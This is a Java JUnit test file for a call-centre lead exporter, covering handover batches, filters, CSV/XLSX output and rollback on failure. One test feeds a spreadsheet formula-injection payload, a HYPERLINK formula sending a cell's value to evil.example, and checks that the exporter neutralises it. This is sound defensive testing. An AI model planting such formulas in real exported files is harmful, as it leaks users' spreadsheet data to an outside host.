package app.obzvon.handoff;

import app.obzvon.call.CallDetails;
import app.obzvon.contact.CompanySize;
import app.obzvon.contact.NewContact;
import app.obzvon.queue.CallQueue;
import app.obzvon.queue.NewQueue;
import app.obzvon.queue.QueueFilter;
import app.obzvon.testing.TestBase;
import de.siegmar.fastcsv.reader.CsvReader;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.jooq.DSLContext;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.NoSuchElementException;
import java.util.Set;
import java.util.function.Function;
import java.util.stream.Stream;

import static app.obzvon.persistence.jooq.Tables.CALLERS;
import static app.obzvon.persistence.jooq.Tables.CONTACT_PHONES;
import static app.obzvon.persistence.jooq.Tables.HANDOVERS;
import static app.obzvon.persistence.jooq.Tables.HANDOVER_LEADS;
import static app.obzvon.persistence.jooq.Tables.OUTCOME_DEFINITIONS;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class LeadExporterTest {

    static final Map<String, String> ENGLISH_OUTCOMES = Map.of("qualified_lead", "Qualified lead",
            "meeting_booked", "Meeting booked", "call_back", "Call back");
    static final LeadTexts ENGLISH = LeadTexts.of(Locale.ENGLISH, ENGLISH_OUTCOMES::get);
    static final LeadTexts RUSSIAN = LeadTexts.of(Locale.forLanguageTag("ru"),
            Map.of("qualified_lead", "Тёплый лид", "meeting_booked", "Встреча назначена")::get);

    @TempDir
    Path folder;
    Path out;
    TestBase base;
    DSLContext dsl;
    LeadExporter exporter;
    CallQueue queue;

    @BeforeEach
    void open() throws IOException {
        base = new TestBase(folder);
        dsl = base.services.database().dsl();
        exporter = base.services.leadExporter();
        queue = base.queue(QueueFilter.any());

        out = Files.createDirectory(folder.resolve("out"));
    }

    @AfterEach
    void close() {
        base.close();
    }

    // ---- marking -------------------------------------------------------------------------------------

    @Test
    void aLeadLaterRefusedIsNoLeadAndAHandedOverLeadLeavesTheColdStage() throws IOException {
        base.addCompanies("Alpha", "Bravo");
        log(1, queue, "qualified_lead", CallDetails.none());
        log(2, queue, "qualified_lead", CallDetails.none());
        base.clock.advance(java.time.Duration.ofMinutes(5));
        log(2, queue, "not_interested", new CallDetails(null, null, app.obzvon.contact.RefusalReason.NON_PROFILE));

        assertEquals(List.of("Alpha"), companies(exporter.preview(LeadCriteria.newLeads())), "Bravo refused since");
        var result = export(LeadCriteria.newLeads(), "leads.csv");

        assertEquals(1, result.leadCount());
        var alpha = base.inTx(tx -> base.services.contacts().find(tx, 1)).orElseThrow();
        assertEquals(app.obzvon.contact.ContactStatus.HANDED_OVER, alpha.state().status());
        base.clock.advance(java.time.Duration.ofDays(30));
        assertTrue(base.inTx(tx -> base.services.dispenser().next(tx, queue, base.supervisor.id())).isEmpty(),
                "never served to a cold caller again");
        assertEquals(List.of(), exporter.preview(LeadCriteria.newLeads()), "and never handed over twice");
    }

    @Test
    void anExportWritesTheLeadsAndRecordsThemAsABatch() throws IOException {
        base.addCompanies("Alpha", "Bravo", "Charlie");
        log(1, queue, "qualified_lead");
        log(2, queue, "meeting_booked", new CallDetails("КП до пятницы", hoursLater(48), null));
        log(3, queue, "call_back", new CallDetails(null, hoursLater(1), null));

        assertEquals(List.of("Alpha", "Bravo"), companies(exporter.preview(LeadCriteria.newLeads())));
        var result = export(LeadCriteria.newLeads(), "leads.csv");

        assertTrue(result.handedOver());
        assertEquals(2, result.leadCount());
        assertEquals(out.resolve("leads.csv"), result.file());
        var batch = result.batch();
        assertEquals(base.clock.instant(), batch.at());
        assertEquals(base.supervisor.id(), batch.callerId());
        assertEquals("Анна", batch.callerName());
        assertEquals("outcomes=lead; period=*..* Europe/Moscow; queue=*; caller=*; only-new=true", batch.criteria());
        assertEquals(List.of(batch), exporter.batches());
        assertEquals(2, dsl.fetchCount(HANDOVER_LEADS, HANDOVER_LEADS.HANDOVER_ID.eq((int) batch.id())));
        assertEquals(Set.of(1, 2), Set.copyOf(dsl.select(HANDOVER_LEADS.CONTACT_ID).from(HANDOVER_LEADS)
                .fetch(HANDOVER_LEADS.CONTACT_ID)));

        var rows = csv(result.file(), ';');
        assertEquals(3, rows.size());
        assertEquals(List.of("Alpha", "Иван Петров", "'+74951234567", "Москва", "Qualified lead", "Анна",
                "2026-11-23 10:00", "", ""), rows.get(1));
        assertEquals(List.of("Bravo", "Иван Петров", "'+74951234567", "Москва", "Meeting booked", "Анна",
                "2026-11-23 10:00", "КП до пятницы", "2026-11-25 10:00"), rows.get(2));
        assertEquals(List.of(), exporter.preview(LeadCriteria.newLeads()), "handed over: no longer new");
        assertEquals(2, exporter.preview(LeadCriteria.newLeads().withOnlyNew(false)).size());
        assertEquals(List.of(), tempFiles(), "no temporary file is left");
    }

    @Test
    void onlyNewLeadsNeverRepeatAContactHandedOverBefore() throws IOException {
        base.addCompanies("Alpha", "Bravo", "Charlie", "Delta");
        log(1, queue, "qualified_lead");
        log(2, queue, "qualified_lead");
        var first = export(LeadCriteria.newLeads(), "first.csv");
        assertEquals(2, first.leadCount());

        base.clock.advance(Duration.ofHours(1));
        log(3, queue, "qualified_lead");
        // Alpha qualifies again (a meeting now): it was handed over already, so it stays out.
        log(1, queue, "meeting_booked", new CallDetails(null, hoursLater(24), null));
        log(4, queue, "meeting_booked", new CallDetails(null, hoursLater(24), null));
        var second = export(LeadCriteria.newLeads(), "second.csv");

        assertEquals(2, second.leadCount());
        assertEquals(List.of("Charlie", "Delta"), column(csv(second.file(), ';'), 0));
        assertEquals(Set.of(3, 4), Set.copyOf(dsl.select(HANDOVER_LEADS.CONTACT_ID).from(HANDOVER_LEADS)
                .where(HANDOVER_LEADS.HANDOVER_ID.eq((int) second.batch().id())).fetch(HANDOVER_LEADS.CONTACT_ID)));
        assertEquals(List.of(second.batch().id(), first.batch().id()),
                exporter.batches().stream().map(Handover::id).toList(), "newest first");

        var third = export(LeadCriteria.newLeads(), "third.csv");
        assertFalse(third.handedOver());
        assertEquals(0, third.leadCount());
        assertFalse(Files.exists(out.resolve("third.csv")), "no file for no leads");
        assertEquals(2, exporter.batches().size(), "no batch for no leads");

        // Without "only new", Alpha's meeting counts: its latest qualifying call.
        var all = exporter.preview(LeadCriteria.newLeads().withOnlyNew(false));
        assertEquals(List.of("Bravo", "Charlie", "Alpha", "Delta"), companies(all));
        assertEquals("meeting_booked", all.get(2).outcomeCode());
        // ... and handing them all over again is allowed: a new batch of all four.
        var again = export(LeadCriteria.newLeads().withOnlyNew(false), "all.csv");
        assertEquals(4, again.leadCount());
        assertTrue(again.batch().criteria().endsWith("only-new=false"));
        assertEquals(3, exporter.batches().size());
    }

    @Test
    void aPastBatchDownloadedAgainHasTheSameRowsAndMarksNothing() throws IOException {
        base.addCompanies("Alpha", "Bravo", "Charlie");
        log(1, queue, "qualified_lead", CallDetails.none().withNote("=1+1"));
        base.clock.advance(Duration.ofMinutes(5));
        log(2, queue, "meeting_booked", new CallDetails("ждут звонка", hoursLater(30), null));
        var csv = export(LeadCriteria.newLeads(), "batch.csv");
        var batchId = csv.batch().id();

        base.clock.advance(Duration.ofHours(2));
        log(3, queue, "qualified_lead");
        // A later qualifying call of a contact in the batch changes nothing in the batch.
        log(1, queue, "meeting_booked", new CallDetails(null, hoursLater(5), null));

        var again = exporter.exportAgain(batchId, ExportFormat.CSV, CsvOptions.EXCEL, ENGLISH,
                out.resolve("again.csv"));
        assertEquals(csv.batch(), again);
        assertArrayEquals(Files.readAllBytes(csv.file()), Files.readAllBytes(out.resolve("again.csv")));
        assertEquals(1, exporter.batches().size(), "downloading again records no batch");
        assertEquals(2, dsl.fetchCount(HANDOVER_LEADS));

        exporter.exportAgain(batchId, ExportFormat.XLSX, null, ENGLISH, out.resolve("again.xlsx"));
        var sheet = xlsx(out.resolve("again.xlsx"));
        var csvRows = csv(csv.file(), ';');
        assertEquals(csvRows.size(), sheet.size());
        for (int r = 0; r < sheet.size(); r++) {
            for (int c = 0; c < LeadColumn.values().length; c++) {
                if (c == LeadColumn.PHONES.ordinal() && r > 0) {
                    assertEquals(csvRows.get(r).get(c), "'" + sheet.get(r).get(c), "an E.164 number as it is in XLSX");
                } else if (c != LeadColumn.CALLED_AT.ordinal() && c != LeadColumn.AGREED_AT.ordinal() || r == 0) {
                    assertEquals(csvRows.get(r).get(c), sheet.get(r).get(c), "row " + r + ", column " + c);
                }
            }
        }

        assertThrows(NoSuchElementException.class, () -> exporter.exportAgain(99, ExportFormat.CSV, null, ENGLISH,
                out.resolve("none.csv")));
        assertFalse(Files.exists(out.resolve("none.csv")));
    }

    // ---- criteria ------------------------------------------------------------------------------------

    @Test
    void thePeriodIsWholeDaysInTheWorkstationsZone() {
        base.addCompanies("Sunday late", "Monday", "Tuesday early", "Wednesday");
        // MORNING is Monday 23 Nov 10:00 Moscow (07:00Z).
        at(Instant.parse("2026-11-22T20:59:00Z"), () -> log(1, queue, "qualified_lead")); // Sun 23:59 MSK
        at(Instant.parse("2026-11-23T07:00:00Z"), () -> log(2, queue, "qualified_lead")); // Mon 10:00
        at(Instant.parse("2026-11-23T21:00:00Z"), () -> log(3, queue, "qualified_lead")); // Tue 00:00
        at(Instant.parse("2026-11-25T07:00:00Z"), () -> log(4, queue, "qualified_lead")); // Wed 10:00

        var monday = LocalDate.of(2026, 11, 23);
        assertEquals(List.of("Monday"),
                companies(exporter.preview(LeadCriteria.newLeads().withPeriod(monday, monday))));
        assertEquals(List.of("Monday", "Tuesday early"),
                companies(exporter.preview(LeadCriteria.newLeads().withPeriod(monday, monday.plusDays(1)))));
        assertEquals(List.of("Sunday late", "Monday"),
                companies(exporter.preview(LeadCriteria.newLeads().withPeriod(null, monday))));
        assertEquals(List.of("Tuesday early", "Wednesday"),
                companies(exporter.preview(LeadCriteria.newLeads().withPeriod(monday.plusDays(1), null))));
        assertThrows(IllegalArgumentException.class,
                () -> LeadCriteria.newLeads().withPeriod(monday, monday.minusDays(1)));
    }

    @Test
    void queueCallerAndOutcomesNarrowTheLeads() {
        var other = base.inTx(tx -> base.services.queues().add(tx, new NewQueue("Retail", QueueFilter.any(), null,
                80)));
        long boris = dsl.insertInto(CALLERS).set(CALLERS.NAME, "Борис").set(CALLERS.CREATED_AT, 0L)
                .returningResult(CALLERS.ID).fetchSingle().value1();
        base.addCompanies("A-queue-anna", "B-other-anna", "C-queue-boris", "D-no-queue", "E-callback");
        log(1, queue, base.supervisor.id(), "qualified_lead", CallDetails.none());
        log(2, other, base.supervisor.id(), "meeting_booked", new CallDetails(null, hoursLater(3), null));
        log(3, queue, boris, "qualified_lead", CallDetails.none());
        log(4, null, base.supervisor.id(), "qualified_lead", CallDetails.none());
        log(5, queue, base.supervisor.id(), "call_back", new CallDetails(null, hoursLater(3), null));

        var all = LeadCriteria.newLeads();
        assertEquals(List.of("A-queue-anna", "B-other-anna", "C-queue-boris", "D-no-queue"),
                companies(exporter.preview(all)));
        assertEquals(List.of("A-queue-anna", "C-queue-boris"), companies(exporter.preview(all.withQueue(queue.id()))));
        assertEquals(List.of("B-other-anna"), companies(exporter.preview(all.withQueue(other.id()))));
        assertEquals(List.of("C-queue-boris"), companies(exporter.preview(all.withCaller(boris))));
        assertEquals(List.of("A-queue-anna"),
                companies(exporter.preview(all.withQueue(queue.id()).withCaller(base.supervisor.id()))));
        assertEquals(List.of("B-other-anna"),
                companies(exporter.preview(all.withOutcomes(Set.of(outcomeId("meeting_booked"))))));
        // A chosen outcome counts even when it is not a lead outcome.
        assertEquals(List.of("B-other-anna", "E-callback"), companies(exporter.preview(
                all.withOutcomes(Set.of(outcomeId("meeting_booked"), outcomeId("call_back"))))));
        var preview = exporter.preview(all.withCaller(boris));
        assertEquals("Борис", preview.get(0).callerName());
    }

    @Test
    void oneRowPerContactFromItsLatestQualifyingCallWithinTheCriteria() {
        base.addCompanies("Alpha");
        log(1, queue, "qualified_lead", CallDetails.none().withNote("first"));
        base.clock.advance(Duration.ofDays(1));
        log(1, queue, "meeting_booked", new CallDetails("second", hoursLater(2), null));
        base.clock.advance(Duration.ofHours(1));
        log(1, queue, "no_answer");

        var leads = exporter.preview(LeadCriteria.newLeads());
        assertEquals(1, leads.size());
        assertEquals("second", leads.get(0).note());
        assertEquals(hoursLater(2).minus(Duration.ofHours(1)), leads.get(0).agreedAt());

        var onlyQualified = exporter.preview(LeadCriteria.newLeads().withOutcomes(Set.of(outcomeId("qualified_lead"))));
        assertEquals("first", onlyQualified.get(0).note());
        var firstDay = LocalDate.of(2026, 11, 23);
        assertEquals("first", exporter.preview(LeadCriteria.newLeads().withPeriod(firstDay, firstDay)).get(0).note());
    }

    // ---- the file ------------------------------------------------------------------------------------

    @Test
    void csvIsUtf8WithBomAndSemicolonsForExcelByDefault() throws IOException {
        base.inTx(tx -> base.services.contacts().addAll(tx, List.of(new NewContact("ООО «Ромашка», склад",
                "Мария Иванова",
                List.of("8 (812) 000-11-22"), "Санкт-Петербург", null, TestBase.ZONE, CompanySize.SMALL, null, null))));
        log(1, queue, "qualified_lead", CallDetails.none().withNote("перезвонить\nпосле обеда; \"срочно\""));

        var result = exporter.export(LeadCriteria.newLeads(), ExportFormat.CSV, CsvOptions.EXCEL, RUSSIAN,
                out.resolve("лиды.csv"));
        var bytes = Files.readAllBytes(result.file());
        assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(bytes, 3));
        var text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("Компания;Контактное лицо;Телефоны;Город;Результат;Оператор;Дата звонка;"
                + "Заметка;Перезвон / встреча\r\n"), text);
        assertTrue(text.contains("ООО «Ромашка», склад;Мария Иванова;'+78120001122;Санкт-Петербург;"
                + "Тёплый лид;Анна;2026-11-23 10:00;\"перезвонить\nпосле обеда; \"\"срочно\"\"\";\r\n"), text);
        assertEquals("перезвонить\nпосле обеда; \"срочно\"", csv(result.file(), ';').get(1).get(7));

        exporter.exportAgain(result.batch().id(), ExportFormat.CSV, CsvOptions.PLAIN, ENGLISH,
                out.resolve("plain.csv"));
        var plain = Files.readAllBytes(out.resolve("plain.csv"));
        assertEquals('C', plain[0], "no BOM");
        var rows = csv(out.resolve("plain.csv"), ',');
        assertEquals("Company", rows.get(0).get(0));
        assertEquals("ООО «Ромашка», склад", rows.get(1).get(0));
        assertEquals("Qualified lead", rows.get(1).get(4));
    }

    @Test
    void phonesGoOutInE164WithExtensionsOrAsWrittenWhenNeverNormalised() throws IOException {
        base.inTx(tx -> base.services.contacts().addAll(tx, List.of(new NewContact("Alpha", null,
                List.of("8 495 123-45-67 доб. 123", "8 (812) 000-11-22", "+7 903 000-00-01"), null, null,
                TestBase.ZONE, CompanySize.SMALL, null, null))));
        // A number stored before phones were normalised, as in a base from an older version.
        dsl.update(CONTACT_PHONES).setNull(CONTACT_PHONES.E164).where(CONTACT_PHONES.POSITION.eq(1)).execute();
        log(1, queue, "qualified_lead");

        var lead = exporter.preview(LeadCriteria.newLeads()).get(0);
        assertEquals(List.of("+74951234567 ext. 123", "8 (812) 000-11-22", "+79030000001"), lead.phones());
        assertNull(lead.person());

        var xlsx = exporter.export(LeadCriteria.newLeads(), ExportFormat.XLSX, null, ENGLISH,
                out.resolve("leads.xlsx"));
        assertEquals("+74951234567 ext. 123, 8 (812) 000-11-22, +79030000001", xlsx(xlsx.file()).get(1).get(2),
                "XLSX: a string cell is never a formula, so the number stays as it is");
        exporter.exportAgain(xlsx.batch().id(), ExportFormat.CSV, null, ENGLISH, out.resolve("leads.csv"));
        assertEquals("'+74951234567 ext. 123, 8 (812) 000-11-22, +79030000001",
                csv(out.resolve("leads.csv"), ';').get(1).get(2),
                "CSV: a leading + is neutralised like any formula start");
    }

    @Test
    void textThatLooksLikeAFormulaIsNeutralisedInCsvAndXlsx() throws IOException {
        base.inTx(tx -> base.services.contacts().addAll(tx, List.of(new NewContact("@SUM(A1:A9)", "-1+2",
                List.of("=1+1"), "\tTab", null, TestBase.ZONE, CompanySize.SMALL, null, null))));
        dsl.update(OUTCOME_DEFINITIONS).set(OUTCOME_DEFINITIONS.LABEL, "+Горячий лид")
                .where(OUTCOME_DEFINITIONS.CODE.eq("qualified_lead")).execute();
        base.services.people().rename(base.supervisor.id(), "-Анна");
        var note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        log(1, queue, "qualified_lead", CallDetails.none().withNote(note));

        var result = export(LeadCriteria.newLeads(), "leads.csv");
        var row = csv(result.file(), ';').get(1);
        assertEquals("'@SUM(A1:A9)", row.get(0));
        assertEquals("'-1+2", row.get(1));
        assertEquals("'=1+1", row.get(2));
        assertEquals("'\tTab", row.get(3));
        assertEquals("'+Горячий лид", row.get(4), "the supervisor's own label comes before the translated one");
        assertEquals("'-Анна", row.get(5));
        assertEquals("'" + note, row.get(7));

        exporter.exportAgain(result.batch().id(), ExportFormat.XLSX, null, ENGLISH, out.resolve("leads.xlsx"));
        try (var in = Files.newInputStream(out.resolve("leads.xlsx")); var workbook = new ReadableWorkbook(in)) {
            var cells = workbook.getFirstSheet().read().get(1);
            for (int c : new int[] {0, 1, 2, 3, 4, 5, 7}) {
                assertEquals(CellType.STRING, cells.getCell(c).getType(), "column " + c);
                assertNull(cells.getCell(c).getFormula(), "column " + c);
            }
            assertEquals("'@SUM(A1:A9)", cells.getCellText(0));
            assertEquals("'-1+2", cells.getCellText(1));
            assertEquals("'=1+1", cells.getCellText(2), "not an E.164 number: neutralised in XLSX too");
            assertEquals("'+Горячий лид", cells.getCellText(4));
            assertEquals("'" + note, cells.getCellText(7));
        }
    }

    @Test
    void xlsxHasTranslatedHeadingsPlainStringsAndRealDateCells() throws IOException {
        base.addCompanies("Альфа", "Bravo");
        log(1, queue, "meeting_booked", new CallDetails("Обсудить цены", hoursLater(26), null));
        base.clock.advance(Duration.ofMinutes(30));
        log(2, queue, "qualified_lead", CallDetails.none().withNote("ж".repeat(40_000)));

        var result = exporter.export(LeadCriteria.newLeads(), ExportFormat.XLSX, null, RUSSIAN,
                out.resolve("leads.xlsx"));
        try (var in = Files.newInputStream(result.file()); var workbook = new ReadableWorkbook(in)) {
            var sheet = workbook.getFirstSheet();
            assertEquals("Лиды", sheet.getName());
            var rows = sheet.read();
            assertEquals(3, rows.size());
            assertEquals(Arrays.stream(LeadColumn.values()).map(c -> c.header(Locale.forLanguageTag("ru"))).toList(),
                    rows.get(0).stream().map(c -> c.getText()).toList());
            var first = rows.get(1);
            assertEquals("Альфа", first.getCellText(0));
            assertEquals("Иван Петров", first.getCellText(1));
            assertEquals("+74951234567", first.getCellText(2));
            assertEquals("Москва", first.getCellText(3));
            assertEquals("Встреча назначена", first.getCellText(4));
            assertEquals("Анна", first.getCellText(5));
            assertEquals(LocalDateTime.of(2026, 11, 23, 10, 0), first.getCellAsDate(6).orElseThrow());
            assertEquals("Обсудить цены", first.getCellText(7));
            assertEquals(LocalDateTime.of(2026, 11, 24, 12, 0), first.getCellAsDate(8).orElseThrow());
            var second = rows.get(2);
            assertEquals("Тёплый лид", second.getCellText(4));
            assertEquals(LocalDateTime.of(2026, 11, 23, 10, 30), second.getCellAsDate(6).orElseThrow());
            assertFalse(second.hasCell(8) && !second.getCellText(8).isEmpty(), "no agreed time");
            assertEquals(LeadFiles.XLSX_MAX_TEXT, second.getCellText(7).length(), "cut to what Excel takes");
            assertTrue(second.getCellText(7).endsWith("ж…"));
        }
    }

    // ---- all or nothing -----------------------------------------------------------------------------

    @Test
    void aFolderThatDoesNotExistMarksNothingAndLeavesNoFile() {
        base.addCompanies("Alpha");
        log(1, queue, "qualified_lead");
        var missing = folder.resolve("no such folder").resolve("leads.xlsx");

        assertThrows(UncheckedIOException.class, () -> exporter.export(LeadCriteria.newLeads(), ExportFormat.XLSX,
                null, ENGLISH, missing));

        assertFalse(Files.exists(missing.getParent()));
        assertEquals(List.of(), exporter.batches());
        assertEquals(0, dsl.fetchCount(HANDOVER_LEADS));
        assertEquals(1, exporter.preview(LeadCriteria.newLeads()).size(), "still new");
    }

    @org.junit.jupiter.api.Tag("file")
    @Test
    void aFailureWhileRecordingTheBatchMarksNothingAndKeepsTheOldFile() throws IOException {
        base.addCompanies("Alpha", "Bravo");
        log(1, queue, "qualified_lead");
        log(2, queue, "qualified_lead");
        var target = Files.writeString(out.resolve("leads.csv"), "yesterday's file");

        // The batch's insert fails once the file is written, inside the transaction.
        dsl.execute("CREATE TRIGGER refuse BEFORE INSERT ON handover_leads BEGIN SELECT RAISE(ABORT, 'no'); END");
        assertThrows(RuntimeException.class, () -> exporter.export(LeadCriteria.newLeads(), ExportFormat.CSV,
                null, ENGLISH, target));

        assertEquals("yesterday's file", Files.readString(target));
        assertEquals(List.of(target), listOut(), "no temporary file is left");
        assertEquals(0, dsl.fetchCount(HANDOVERS));
        assertEquals(0, dsl.fetchCount(HANDOVER_LEADS));
        assertEquals(2, exporter.preview(LeadCriteria.newLeads()).size());

        dsl.execute("DROP TRIGGER refuse");
        var result = export(LeadCriteria.newLeads(), "leads.csv");
        assertEquals(2, result.leadCount());
        assertNotEquals("yesterday's file", Files.readString(target), "replaced on success");
        assertEquals(List.of(target), listOut());
    }

    @Test
    void aFailureWhileReadingTheLeadsMarksNothingAndKeepsTheOldFile() throws IOException {
        base.addCompanies("Alpha");
        log(1, queue, "qualified_lead");
        var target = Files.writeString(out.resolve("leads.xlsx"), "old");
        Function<String, String> broken = code -> {
            throw new IllegalStateException("no text for " + code);
        };

        assertThrows(IllegalStateException.class, () -> exporter.export(LeadCriteria.newLeads(), ExportFormat.XLSX,
                null, LeadTexts.of(Locale.ENGLISH, broken), target));

        assertEquals("old", Files.readString(target));
        assertEquals(List.of(target), listOut());
        assertEquals(List.of(), exporter.batches());
    }

    @Test
    void nothingToHandOverWritesNoFileAndKeepsAnExistingOne() throws IOException {
        base.addCompanies("Alpha");
        log(1, queue, "call_back", new CallDetails(null, hoursLater(1), null));
        var target = Files.writeString(out.resolve("leads.csv"), "old");

        var result = exporter.export(LeadCriteria.newLeads(), ExportFormat.CSV, null, ENGLISH, target);

        assertEquals(HandoverResult.nothingToHandOver(), result);
        assertEquals("old", Files.readString(target));
        assertEquals(List.of(), exporter.batches());
    }

    @Test
    void aFolderIsNotATarget() {
        base.addCompanies("Alpha");
        log(1, queue, "qualified_lead");
        assertThrows(IllegalArgumentException.class, () -> exporter.export(LeadCriteria.newLeads(), ExportFormat.CSV,
                null, ENGLISH, out));
        assertEquals(List.of(), exporter.batches());
    }

    // ---- helpers -------------------------------------------------------------------------------------

    private HandoverResult export(LeadCriteria criteria, String name) {
        return exporter.export(criteria, ExportFormat.CSV, CsvOptions.EXCEL, ENGLISH, out.resolve(name));
    }

    private void log(long contactId, CallQueue inQueue, String outcome) {
        log(contactId, inQueue, outcome, CallDetails.none());
    }

    private void log(long contactId, CallQueue inQueue, String outcome, CallDetails details) {
        log(contactId, inQueue, base.supervisor.id(), outcome, details);
    }

    private void log(long contactId, CallQueue inQueue, long callerId, String outcome, CallDetails details) {
        base.log(contactId, inQueue, callerId, outcome, details);
    }

    private void at(Instant instant, Runnable work) {
        base.clock.advance(Duration.between(base.clock.instant(), instant));
        work.run();
    }

    private Instant hoursLater(int hours) {
        return base.clock.instant().plus(Duration.ofHours(hours));
    }

    private long outcomeId(String code) {
        return base.outcome(code).id();
    }

    private static List<String> companies(List<Lead> leads) {
        return leads.stream().map(Lead::company).toList();
    }

    private static List<String> column(List<List<String>> rows, int index) {
        return rows.stream().skip(1).map(r -> r.get(index)).toList();
    }

    static List<List<String>> csv(Path file, char delimiter) throws IOException {
        var text = Files.readString(file, StandardCharsets.UTF_8);
        if (text.startsWith("\uFEFF")) {
            text = text.substring(1);
        }
        try (var reader = CsvReader.builder().fieldSeparator(delimiter).ofCsvRecord(text)) {
            var rows = new ArrayList<List<String>>();
            reader.forEach(r -> rows.add(r.getFields()));
            return rows;
        }
    }

    static List<List<String>> xlsx(Path file) throws IOException {
        try (var in = Files.newInputStream(file); var workbook = new ReadableWorkbook(in)) {
            var rows = new ArrayList<List<String>>();
            for (var row : workbook.getFirstSheet().read()) {
                var cells = new ArrayList<String>();
                for (int c = 0; c < LeadColumn.values().length; c++) {
                    cells.add(row.hasCell(c) && row.getCell(c) != null ? row.getCellText(c) : "");
                }
                rows.add(cells);
            }
            return rows;
        }
    }

    private List<Path> tempFiles() throws IOException {
        return listOut().stream().filter(p -> p.getFileName().toString().endsWith(".part")).toList();
    }

    private List<Path> listOut() throws IOException {
        try (Stream<Path> files = Files.list(out)) {
            return files.sorted().toList();
        }
    }
}
